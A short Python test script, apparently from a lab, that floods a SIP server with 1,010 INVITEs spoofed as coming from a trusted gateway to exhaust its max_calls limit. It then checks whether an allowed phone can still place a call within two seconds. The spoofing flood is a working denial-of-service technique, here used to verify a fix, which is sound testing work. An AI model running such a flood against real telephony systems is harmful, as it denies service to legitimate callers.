"""INVITEs forged in the trusted gateway's name take all of max_calls."""

import time

from attack import GATEWAY_A, forge, held_by, short_invite, try_call
from phones import Answering, Phone
from verdict import control, finish, right

Answering("10.77.1.2")
before = try_call(Phone("10.77.1.3", "u", GATEWAY_A[0]), "q@10.77.1.2")
control("before, a call is answered", before and before.code == 200)

for _ in range(1010):
    forge(("10.77.0.2", 9999), GATEWAY_A, short_invite(("10.77.0.2", 9999), "sip:x@10.78.0.9:9"))
    time.sleep(0.001)
print("after 1,010 forged INVITEs:", held_by("a"))

phone, start, final = Phone("10.77.1.4", "u", GATEWAY_A[0]), time.monotonic(), None
while time.monotonic() < start + 40:
    final = try_call(phone, "q@10.77.1.2")
    print(f"{time.monotonic() - start:.1f} s", final and (final.start, final.get("warning")), flush=True)
    if final and final.code == 200:
        break
    time.sleep(4)
spent = time.monotonic() - start
right(
    f"an allowed phone's next call is answered (after {spent:.1f} s)",
    final and final.code == 200 and spent < 2,
)
finish()
